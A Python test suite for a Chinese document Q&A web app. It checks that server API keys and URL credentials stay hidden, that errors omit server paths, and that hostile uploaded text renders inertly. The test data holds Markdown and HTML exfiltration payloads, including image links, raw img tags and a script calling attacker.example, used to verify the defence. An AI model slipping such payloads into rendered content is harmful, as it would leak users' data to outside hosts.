"""Hostile documents, visitors and secrets in the UI (issue 9 items 1, 2, 4; issue 8 item 11).

AppTest for what the server sends to the page and where LLM requests go; Chromium (Playwright)
for Markdown exfiltration: a document full of images, links and raw HTML, asked about, must not
make the browser call any outside host nor inject any element.
"""
import logging
import re

import pytest
from streamlit.testing.v1 import AppTest

from conftest import ROOT
from llm_server import FakeLLMServer

SERVER_KEY = "sk-server-secret-4f1d9c"
SECRETS_KEY = "sk-from-secrets-toml-77ab"


def app(page=None, secrets=None, run=True):
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    if secrets:
        at.secrets.update(secrets)
    at.run()
    if page:
        at.switch_page(f"components/pages/{page}.py").run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def everything_sent(at) -> str:
    """Every element and widget of the rendered page (as protobuf text), plus the session state."""
    parts = []

    def walk(node):
        proto = getattr(node, "proto", None)
        if proto is not None:
            parts.append(str(proto))
        for child in getattr(node, "children", {}).values():
            walk(child)

    walk(at._tree)
    parts.extend(f"{k}={at.session_state[k]!r}" for k in at.session_state)
    return "\n".join(parts)


def plain(markdown: str) -> str:
    """What Markdown source displays, for the backslash escapes (and invisible word joiners) inert() adds."""
    return re.sub(r"\\(.)", r"\1", markdown).replace("\u2060", "")


def field(at, label):
    return next(t for t in at.text_input if t.label == label)


def click(at, label):
    next(b for b in at.button if b.label == label).click().run()
    assert not at.exception, [e.value for e in at.exception]


@pytest.fixture
def kb_with_doc(data_dir):
    from services.index.ingest import ingest_bytes
    from services.index.library import open_library

    lib = open_library(data_dir)
    kb = lib.kb("资料", create=True)
    ingest_bytes(lib, kb, "长江全长约六千三百公里，是中国第一长河。黄河是中华民族的母亲河。".encode(), "rivers.txt")
    return lib, kb


# --- issue 9 #1: the server's key stays on the server ---------------------------------------------
def test_server_key_never_reaches_the_page(kb_with_doc, monkeypatch):
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")
    monkeypatch.setenv("OPENAI_API_KEY", SERVER_KEY)
    monkeypatch.setenv("WENDAO_LLM_MODEL", "echo")
    at = app("settings")
    assert field(at, "API Key").value == ""
    sent = everything_sent(at)
    assert SERVER_KEY not in sent and "已在服务器配置" in sent
    at = app("settings", secrets={"OPENAI_API_KEY": SECRETS_KEY, "OPENAI_BASE_URL": "http://127.0.0.1:9/v1"})
    sent = everything_sent(at)
    assert SECRETS_KEY not in sent and SERVER_KEY not in sent and "已在服务器配置" in sent
    chat = app("chat")
    assert SERVER_KEY not in everything_sent(chat)


def test_credentials_in_the_server_endpoint_url_never_reach_the_page(kb_with_doc, monkeypatch):
    """A server endpoint like http://user:pass@host/v1?api-key=… is shown masked in the settings form,
    saving the form unchanged keeps the real URL, and an unreachable-endpoint error is masked too."""
    from services.config import LLMSettings, redact_url
    from services.index.kb_settings import llm_settings
    from services.answers.llm import LLMClient

    lib, kb = kb_with_doc
    url = "http://svc:Pa55word-url@127.0.0.1:9/v1?api-key=url-secret-77&deployment=chat"
    assert redact_url(url) == "http://svc:***@127.0.0.1:9/v1?api-key=***&deployment=chat"
    monkeypatch.setenv("OPENAI_BASE_URL", url)
    monkeypatch.setenv("WENDAO_LLM_MODEL", "echo")
    at = app("settings")
    assert field(at, "接口地址").value == redact_url(url)
    sent = everything_sent(at)
    assert "Pa55word-url" not in sent and "url-secret-77" not in sent
    click(at, "保存")
    assert llm_settings(lib, kb).base_url == url  # the masked form left unchanged means the real URL
    assert "Pa55word-url" not in everything_sent(at) and "url-secret-77" not in everything_sent(at)
    error = pytest.raises(Exception, LLMClient(LLMSettings(base_url=url, model="m", timeout=2, max_retries=0))
                          .test_connection).value
    assert "Pa55word-url" not in str(error) and "url-secret-77" not in str(error)


def test_visitor_endpoint_never_receives_the_server_key(kb_with_doc, monkeypatch):
    lib, kb = kb_with_doc
    with FakeLLMServer() as home, FakeLLMServer() as visitor:
        monkeypatch.setenv("OPENAI_BASE_URL", home.url)
        monkeypatch.setenv("OPENAI_API_KEY", SERVER_KEY)
        monkeypatch.setenv("WENDAO_LLM_MODEL", "echo")
        at = app("settings")
        click(at, "测试连接")  # the server's own endpoint gets the server's key (on the server side)
        assert any("连接成功" in s.value for s in at.success)
        assert home.requests[-1]["auth"] == f"Bearer {SERVER_KEY}"

        field(at, "接口地址").input(visitor.url)
        click(at, "测试连接")
        assert any("连接成功" in s.value for s in at.success), [e.value for e in at.error]
        assert visitor.requests and SERVER_KEY not in visitor.requests[-1]["auth"]
        assert "llm" not in lib.store.get_kb(kb.id).settings  # testing saves nothing
        assert "llm_api_key" not in at.session_state

        field(at, "API Key").input("sk-visitor-own")
        click(at, "测试连接")
        assert visitor.requests[-1]["auth"] == "Bearer sk-visitor-own"
        assert "llm" not in lib.store.get_kb(kb.id).settings and "llm_api_key" not in at.session_state

        # a look-alike of the server's URL is another host too
        field(at, "API Key").input("")
        field(at, "接口地址").input(home.url.replace("http://", "http://user@"))
        click(at, "测试连接")
        assert all(SERVER_KEY not in r["auth"] for r in visitor.requests + home.requests[1:])

        # saved as the KB's endpoint, then asked in the chat: still never the server's key
        field(at, "接口地址").input(visitor.url)
        click(at, "保存")
        saved = lib.store.get_kb(kb.id).settings["llm"]
        assert saved["base_url"] == visitor.url and "api_key" not in saved
        before = len(visitor.requests)
        chat = app("chat")
        chat.chat_input[0].set_value("长江全长多少公里？").run()
        assert len(visitor.requests) > before
        assert all(SERVER_KEY not in r["auth"] for r in visitor.requests)
        assert SERVER_KEY not in everything_sent(chat)


def test_llm_settings_resolve_keys_per_endpoint(lib, kb, monkeypatch):
    from services.config import LLMSettings, same_endpoint
    from services.index.kb_settings import llm_settings, save_llm_settings

    monkeypatch.setenv("OPENAI_BASE_URL", "http://home:8000/v1")
    monkeypatch.setenv("OPENAI_API_KEY", SERVER_KEY)
    monkeypatch.setenv("WENDAO_LLM_MODEL", "m")
    assert llm_settings(lib, kb).api_key == SERVER_KEY
    assert llm_settings(lib, kb, unsaved={"base_url": "http://HOME:8000/v1/"}).key_source == "server"
    for other in ("http://evil/v1", "http://home:8001/v1", "https://home:8000/v1", "http://x@home:8000/v1"):
        assert not same_endpoint("http://home:8000/v1", other)
        assert llm_settings(lib, kb, unsaved={"base_url": other}).api_key == ""
    assert llm_settings(lib, kb, "sk-mine", unsaved={"base_url": "http://evil/v1"}).api_key == "sk-mine"
    # a key saved on request is bound to the endpoint it was saved with; the server's is never copied
    save_llm_settings(lib, kb, llm_settings(lib, kb), save_key=True)
    assert "api_key" not in lib.store.get_kb(kb.id).settings["llm"]
    save_llm_settings(lib, kb, llm_settings(lib, kb, "sk-saved", unsaved={"base_url": "http://mine/v1"}), save_key=True)
    assert llm_settings(lib, kb).api_key == "sk-saved"
    assert llm_settings(lib, kb, unsaved={"base_url": "http://evil/v1"}).api_key == ""
    assert llm_settings(lib, kb, unsaved={"base_url": "http://home:8000/v1"}).api_key == SERVER_KEY
    s = LLMSettings("http://h/v1", SERVER_KEY, "m")
    assert SERVER_KEY not in repr(s) and SERVER_KEY not in str(s) and SERVER_KEY not in f"{s!r} {[s]}"


def test_saving_a_key_says_it_is_plain_text(kb_with_doc, monkeypatch):
    lib, kb = kb_with_doc
    for name in ("OPENAI_BASE_URL", "OPENAI_API_KEY", "WENDAO_LLM_MODEL"):
        monkeypatch.delenv(name, raising=False)
    at = app("settings")
    assert any("明文" in c.label for c in at.checkbox)
    field(at, "接口地址").input("http://127.0.0.1:9/v1")
    field(at, "模型名").input("m")
    field(at, "API Key").input("sk-typed")
    next(c for c in at.checkbox if "明文" in c.label).check()
    click(at, "保存")
    assert any("明文" in s.value for s in at.success)
    assert lib.store.get_kb(kb.id).settings["llm"]["api_key"] == "sk-typed"
    assert "sk-typed" not in everything_sent(app("settings"))


# --- issue 9 #4: errors are logged, shown without server paths ------------------------------------
def test_engine_errors_are_logged_and_shown_without_paths(kb_with_doc, monkeypatch, caplog):
    import services.index.ingest
    from services import errors

    def broken(*args, **kwargs):
        try:
            raise OSError(5, "Input/output error", "/srv/wendao/data/qdrant/kb_1/segments/wal")
        except OSError as exc:
            raise errors.WendaoError(f"写入索引失败：OSError: {exc}") from exc

    monkeypatch.setattr(services.index.ingest, "ingest_bytes", broken)
    at = app("library")
    at.get("file_uploader")[0].set_value([("a.txt", "内容".encode(), "text/plain")])
    at.run()
    with caplog.at_level(logging.ERROR):
        index_in_background(at)  # uploads are indexed by the background worker (issue 11)
    shown = " ".join(w.value for w in at.warning)
    assert "失败" in shown and "/srv/wendao" not in shown and "qdrant" not in shown
    assert "/srv/wendao/data/qdrant" in caplog.text and "Traceback" in caplog.text

    monkeypatch.setattr(services.index.ingest, "ingest_bytes", lambda *a, **k: open("/srv/nowhere/x.db"))
    at = app("library")
    at.get("file_uploader")[0].set_value([("b.txt", "内容".encode(), "text/plain")])
    at.run()
    index_in_background(at)
    shown = " ".join(w.value for w in at.warning)
    assert "内部错误" in shown and "/srv" not in shown and "No such file" not in shown

    # a per-file failure reason quoting a path: the reason is shown, the path is not
    monkeypatch.setattr(services.index.ingest, "ingest_bytes", lambda lib, kb, data, name, *a, **k: services.index.ingest.FileResult(
        name, "failed", "写入索引失败：Tracker journal /srv/wendao/data/qdrant/wal is shorter than expected"))
    at = app("library")
    at.get("file_uploader")[0].set_value([("c.txt", "内容".encode(), "text/plain")])
    at.run()
    index_in_background(at)
    shown = " ".join(w.value for w in at.warning)
    assert "写入索引失败" in shown and "/srv" not in shown


def index_in_background(at):
    """Click 开始索引, wait for the background worker, show the page again."""
    from services import worker
    from services.index.library import open_library

    next(b for b in at.button if b.label.startswith("开始索引")).click().run()
    assert worker.wait_idle(open_library(), 60)
    at.run()


# --- issue 9 #2: untrusted text is inert -----------------------------------------------------------
def test_inert_escapes_every_markdown_construct():
    from components.safe_text import html_text, inert

    hostile = "![](http://attacker.example/?q=1) [点我](http://attacker.example) <img src=x> www.attacker.example " \
              "$x$ :red[红] :material/home: **粗** `c` # 标题"
    out = inert(hostile)
    assert plain(out) == hostile  # displays literally
    for construct in ("![", "](", "<img", "www.", "http:", "attacker.example/", "$x", ":red[", ":material/", "**", "`c"):
        assert not re.search(r"(?<!\\)" + re.escape(construct), out), construct  # only escaped forms remain
    # autolink literals and shortcodes are found after escapes are resolved: they need defusing
    for literal in ("HTTP://a.b/c", "https://a.b", "www.a.b", "Www.a.b", "me@a.b", ":smile:"):
        shown = re.sub(r"\\(.)", r"\1", inert(literal))
        assert not re.search(r"(?i)https?://|www\.|[\w.+-]@|:\w+:", shown), shown
    assert inert("一\n    二\r\n三").split("  \n") == ["一", "二", "三"]  # no indented code block
    assert "\n" not in inert("a\nb", keep_lines=False)
    assert html_text("<b>x</b>\r\r![](u)") == "&lt;b&gt;x&lt;/b&gt;<br><br>![](u)"


def test_pages_render_document_text_inert(data_dir):
    """Answers, passages, file names and KB names reach every Markdown surface escaped."""
    from services.index.ingest import ingest_bytes
    from services.index.library import open_library

    lib = open_library(data_dir)
    kb = lib.kb("库![](http://attacker.example/kb)", create=True)
    name = "![](http:attacker.example).txt"
    body = "长江全长约六千三百公里![](http://attacker.example/?q=secret)，<img src=http://attacker.example/i>是中国第一长河。"
    ingest_bytes(lib, kb, body.encode(), name)
    at = app("chat")
    at.chat_input[0].set_value("长江全长多少公里？").run()
    at2 = app("lab")
    at2.text_input[0].input("长江").run()
    at3 = app("library")
    for page in (at, at2, at3):
        sources = [m.value for m in page.markdown] + [c.value for c in page.caption] + [s.value for s in page.subheader]
        sources += [e.label for e in page.expander]
        shown = " ".join(sources)
        assert "attacker" in shown  # the text is there, to be read
        for s in sources:  # but never as a live image, link or tag
            if 'class="wendao-passage"' in s:
                assert "<img" not in s.split('class="wendao-passage"', 1)[1]
            else:
                assert not re.search(r"(?<!\\)!\[|(?<!\\)\]\(|(?<!\\)<img", s), s


# --- issue 8 #11: settings never leak from one knowledge base into another -----------------------
def test_switching_kb_keeps_each_kbs_settings(data_dir):
    from services.index.library import open_library
    from services.index.kb_settings import chunking_config, retrieval_settings

    def widget(items, label):
        return next(w for w in items if w.label == label)

    lib = open_library(data_dir)
    first, second = lib.kb("一", create=True), lib.kb("二", create=True)
    at = app("settings")
    assert at.session_state["kb_id"] == first.id
    widget(at.radio, "检索方式").set_value("bm25").run()
    widget(at.selectbox, "切分方式").set_value("fixed").run()
    assert retrieval_settings(lib, first).mode == "bm25" and chunking_config(lib, first).strategy == "fixed"
    before = dict(lib.store.get_kb(second.id).settings)
    next(s for s in at.sidebar.selectbox if s.label == "知识库").set_value(second.id).run()
    assert not at.exception
    at.run()  # and once more, as any later interaction would
    assert lib.store.get_kb(second.id).settings == before
    assert retrieval_settings(lib, second).mode == "hybrid" and chunking_config(lib, second).strategy == "sentence"
    assert widget(at.radio, "检索方式").value == "hybrid" and widget(at.selectbox, "切分方式").value == "sentence"
    # the library's upload controls too: the second KB's form shows (and would save) its own settings
    page = app("library")
    widget(page.selectbox, "切分方式").set_value("window").run()
    next(s for s in page.sidebar.selectbox if s.label == "知识库").set_value(second.id).run()
    assert widget(page.selectbox, "切分方式").value == "sentence"
    assert lib.store.get_kb(second.id).settings == before


# --- issue 9 #2 in a real browser ------------------------------------------------------------------
HOSTILE = ("长江全长约六千三百公里![](http://attacker.example/img?q=secret)，<img src=\"http://attacker.example/raw.png\">"
           "是中国第一长河。\n更多信息见[官方链接](http://attacker.example/link)和 www.attacker.example 网站。"
           "<a id=\"injected-a\" href=\"http://attacker.example/a\">点这里</a><b id=\"injected-b\">粗体</b>\n"
           "<script>fetch('http://attacker.example/js')</script>")
INJECTED = '[src*="attacker"], [href*="attacker"], #injected-a, #injected-b'


@pytest.mark.browser
def test_hostile_document_stays_inert_in_chromium(tmp_path):
    """Upload a document (and file name) full of Markdown images, links and raw HTML, ask about it
    (extractive answer, then an LLM that repeats it), open its citation and the lab: the browser
    never calls an outside host and no injected element appears; the text is shown literally."""
    from test_browser import CHROMIUM, browser_page, running_app, wait_idle

    if not CHROMIUM:
        pytest.skip("Debian chromium not installed")
    doc = tmp_path / "长江![](http:attacker.example).txt"
    doc.write_text(HOSTILE, encoding="utf-8")
    outside: list[str] = []

    def clean(page):
        wait_idle(page)
        assert outside == []
        found = page.locator(INJECTED)
        assert found.count() == 0, [found.nth(i).evaluate("e => e.outerHTML") for i in range(found.count())]

    def ask(page, url):
        page.goto(url + "/")
        box = page.get_by_placeholder("就文档提问")
        box.fill("长江全长多少公里？")
        box.press("Enter")
        answer = page.locator('[data-testid="stChatMessage"]').nth(1)
        answer.get_by_text("六千三百公里").first.wait_for()
        wait_idle(page)
        assert "attacker.example" in answer.inner_text()  # shown, as text
        answer.get_by_role("button", name=re.compile(r"^\[1\] ")).click()  # the citation chip stays clickable
        page.get_by_role("dialog").locator("mark").first.wait_for()
        clean(page)
        page.keyboard.press("Escape")

    with FakeLLMServer() as llm, running_app(tmp_path / "data") as url, browser_page(outside) as page:
        page.goto(url + "/library")
        page.get_by_label("知识库名称").fill("注入测试![](http:attacker.example/kb)")
        page.get_by_role("button", name="创建").click()
        page.get_by_text("知识库：注入测试").wait_for()
        page.locator('[data-testid="stFileUploader"] input[type="file"]').set_input_files([str(doc)])
        page.get_by_role("button", name="开始索引 1 个文件").click()
        page.get_by_text("文件 1/1（全部完成）").wait_for()  # indexed by the background worker
        clean(page)
        ask(page, url)  # extractive: no LLM configured
        page.goto(url + "/settings")
        page.get_by_label("接口地址", exact=True).fill(llm.url)
        page.get_by_label("模型名", exact=True).fill("echo")
        page.get_by_role("button", name="保存", exact=True).click()
        page.get_by_text("已保存").wait_for()
        ask(page, url)  # an LLM that repeats the document's Markdown
        assert llm.requests
        page.goto(url + "/lab")
        page.get_by_label("查询").fill("长江 官方链接")
        page.get_by_label("查询").press("Enter")
        page.get_by_text("问题切成的词").wait_for()
        clean(page)
